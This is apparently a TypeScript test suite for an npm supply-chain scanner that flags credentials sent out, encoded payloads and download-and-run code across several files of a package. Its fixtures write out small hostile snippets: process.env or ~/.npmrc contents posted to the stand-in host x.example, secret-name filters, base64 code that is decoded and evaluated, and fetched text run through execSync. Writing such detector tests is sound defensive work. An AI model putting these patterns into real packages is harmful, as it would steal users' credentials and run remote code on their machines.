import { capabilitiesOfNpm } from './npm-delta.ts';

type Files = Readonly<Record<string, string>>;

const before: Files = { 'index.js': 'module.exports = 1\n' };
const together = new Set(['download-and-run', 'encoded-payload', 'secrets-sent']);

async function combined(after: Files, old: Files = before): Promise<readonly string[]> {
  const found = await capabilitiesOfNpm(after, old);
  return [...new Set(found.filter((one) => together.has(one.kind)).map((one) => `${one.kind} ${one.path}`))];
}

const https = "const https = require('https');\n";
const send =
  "export const send = async (d) => { await fetch('https://x.example/', { method: 'POST', body: JSON.stringify(d) }) }";
const commonSend = "exports.send = (d) => fetch('https://x.example/', { method: 'POST', body: d })";
const base64 = (text: string): string => Buffer.from(text).toString('base64');

const found: readonly (readonly [string, string, Files])[] = [
  [
    'an environment that one file copies and another sends',
    'secrets-sent lib/b.js',
    {
      'index.js': "const { all } = require('./lib/a'); const { post } = require('./lib/b'); post(all())",
      'lib/a.js': 'exports.all = () => ({ ...process.env })',
      'lib/b.js': `${https}module.exports = { post(x) { const r = https.request('https://x.example/'); r.end(JSON.stringify(x)) } }`,
    },
  ],
  [
    'a default export and a namespace',
    'secrets-sent b.js',
    {
      'index.js': "import all from './a.js'; import * as net from './b.js'; net.send(all)",
      'a.js': 'const e = process.env; export default e',
      'b.js': send,
    },
  ],
  [
    'exports that an index file passes on',
    'secrets-sent lib/b.js',
    {
      'index.js': "import { gather, post } from './lib/index.js'; post(gather())",
      'lib/index.js': "export * from './a.js'; export { send as post } from './b.js'",
      'lib/a.js': 'export function gather() { return Object.assign({}, process.env) }',
      'lib/b.js': send,
    },
  ],
  [
    'methods of classes, and a file where credentials lie',
    'secrets-sent r.js',
    {
      'index.js': "const R = require('./r'); new R().flush()",
      'r.js': `${https}const P = require('./p'); class R { constructor() { this.p = new P() } flush() { const q = https.request('https://x.example/'); q.write(this.p.read()); q.end() } } module.exports = R`,
      'p.js':
        "const fs = require('fs'), os = require('os'), path = require('path'); module.exports = class P { read() { return fs.readFileSync(path.join(os.homedir(), '.npmrc')) } }",
    },
  ],
  [
    'an event that carries it',
    'secrets-sent s.js',
    {
      'index.js': "const bus = require('./bus'); require('./s'); bus.emit('ready', JSON.stringify(process.env))",
      'bus.js': "const E = require('events'); module.exports = new E()",
      's.js':
        "const bus = require('./bus'); bus.on('ready', (d) => { fetch('https://x.example/', { method: 'POST', body: d }) })",
    },
  ],
  [
    'what TypeScript makes of a default import',
    'secrets-sent index.js',
    {
      'index.js':
        'var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };\nconst a_1 = __importDefault(require("./a"));\nconst axios_1 = __importDefault(require("axios"));\naxios_1.default.post("https://x.example/", (0, a_1.default)());',
      'a.js':
        'Object.defineProperty(exports, "__esModule", { value: true });\nexports.default = collect;\nfunction collect() { return JSON.stringify(process.env) }',
    },
  ],
  [
    'a getter that is defined on what is exported',
    'secrets-sent index.js',
    {
      'index.js': `const k = require('./k'); fetch('https://x.example/', { body: JSON.stringify(k.all) })`,
      'k.js': "Object.defineProperty(exports, 'all', { get() { return process.env } })",
    },
  ],
  [
    'an argument that is taken apart elsewhere',
    'secrets-sent s.js',
    {
      'index.js': "const s = require('./s'); s.init({ url: 'https://x.example', data: process.env })",
      's.js': "exports.init = ({ url, data }) => fetch(url, { method: 'POST', body: JSON.stringify(data) })",
    },
  ],
  [
    'variables that are chosen by the names of secrets',
    'secrets-sent b.js',
    {
      'index.js': "const { send } = require('./b'); const { pick } = require('./a'); send(pick())",
      'a.js':
        'const wanted = /TOKEN|SECRET|_KEY/i; exports.pick = () => JSON.stringify(Object.entries(process.env).filter(([name]) => wanted.test(name)))',
      'b.js': commonSend,
    },
  ],
  [
    'code that one file holds, another decodes and a third runs',
    'encoded-payload index.js',
    {
      'index.js': "const { code } = require('./data'); const { d } = require('./util'); eval(d(code))",
      'data.js': `exports.code = '${base64('console.log(1);console.log(2)')}'`,
      'util.js': "exports.d = (s) => Buffer.from(s, 'base64').toString()",
    },
  ],
  [
    'code that one file loads and another runs',
    'download-and-run run.js',
    {
      'index.js':
        "const { get } = require('./net'); const { run } = require('./run'); get('https://x.example/').then(run)",
      'net.js': 'exports.get = async (u) => { const r = await fetch(u); return r.text() }',
      'run.js': 'exports.run = (c) => new Function(c)()',
    },
  ],
  [
    'a command that comes from the network and waits for it',
    'download-and-run run.js',
    {
      'index.js':
        "const { get } = require('./net'); const { run } = require('./run'); (async () => { const c = await get('https://x.example/'); run(c) })()",
      'net.js': 'exports.get = async (u) => { const r = await fetch(u); return r.text() }',
      'run.js': "const { execSync } = require('child_process'); exports.run = (c) => execSync(c)",
    },
  ],
];

const silent: readonly (readonly [string, Files])[] = [
  [
    'a client that signs its calls with keys from the environment',
    {
      'index.js':
        "const { cred } = require('./c'); const { call } = require('./h'); call('https://s3.example', cred())",
      'c.js':
        'exports.cred = (env = process.env) => ({ id: env.AWS_ACCESS_KEY_ID, secret: env.AWS_SECRET_ACCESS_KEY })',
      'h.js': 'exports.call = (u, c) => fetch(u, { headers: { authorization: sign(c) } })',
    },
  ],
  [
    'a reader of settings beside a question for news',
    {
      'index.js':
        "const { parse } = require('./p'); const e = parse(require('fs').readFileSync('.env')); for (const k of Object.keys(e)) process.env[k] = e[k]; require('./n')()",
      'p.js': "exports.parse = (s) => ({ ...s.split('=') })",
      'n.js': "module.exports = () => fetch('https://up.example/latest')",
    },
  ],
  [
    'a command that gets the environment, beside a question for the latest version',
    {
      'index.js':
        "const { run } = require('./run'); const { latest } = require('./reg'); latest('x').then((v) => { if (v > 1) console.log('update') }); run('git', ['status'])",
      'run.js': "const { spawn } = require('child_process'); exports.run = (c, a) => spawn(c, a, { env: process.env })",
      'reg.js':
        "exports.latest = async (n) => { const r = await fetch('https://r.example/' + n); return (await r.json()).version }",
    },
  ],
  [
    'the settings of one program',
    {
      'index.js': "const { send } = require('./b'); const { pick } = require('./a'); send(pick())",
      'a.js':
        "exports.pick = () => JSON.stringify(Object.entries(process.env).filter(([name]) => name.startsWith('THING_')))",
      'b.js': commonSend,
    },
  ],
  [
    'an environment in one file and the network in another that never meet',
    {
      'index.js': "require('./a').show(); require('./b').send('hello')",
      'a.js': 'exports.show = () => console.log(JSON.stringify(process.env))',
      'b.js': commonSend,
    },
  ],
];

describe('files of one package, looked at together', () => {
  it.each(found)('tell of %s', async (_, expected, files) => {
    expect(await combined(files)).toContain(expected);
  });

  it.each(silent)('say nothing of %s', async (_, files) => {
    expect(await combined(files)).toEqual([]);
  });

  it('name the other file in the evidence', async () => {
    const all = await capabilitiesOfNpm(
      {
        'index.js': "require('./b').send(require('./lib/a').all)",
        'lib/a.js': 'exports.all = process.env',
        'b.js': commonSend,
      },
      before,
    );
    expect(all.find((one) => one.kind === 'secrets-sent')?.evidence).toMatch(/^(?:lib\/a|index)\.js: .*\.\.\. fetch\(/);
  });

  it('read a file that did not change where a new one imports it', async () => {
    const old = { ...before, 'b.js': commonSend };
    expect(await combined({ ...old, 'index.js': "require('./b').send(JSON.stringify(process.env))" }, old)).toEqual([
      'secrets-sent b.js',
    ]);
  });

  it('say nothing of what the release before did too, in other files', async () => {
    const old = {
      'index.js': "require('./b').send(require('./a').all)",
      'a.js': 'exports.all = JSON.stringify(process.env)',
      'b.js': commonSend,
    };
    const moved = {
      'index.js': "require('./lib/b').send(require('./lib/a').all)",
      'lib/a.js': `${old['a.js']}\n`,
      'lib/b.js': commonSend,
    };
    expect(await combined(moved, old)).toEqual([]);
  });
});
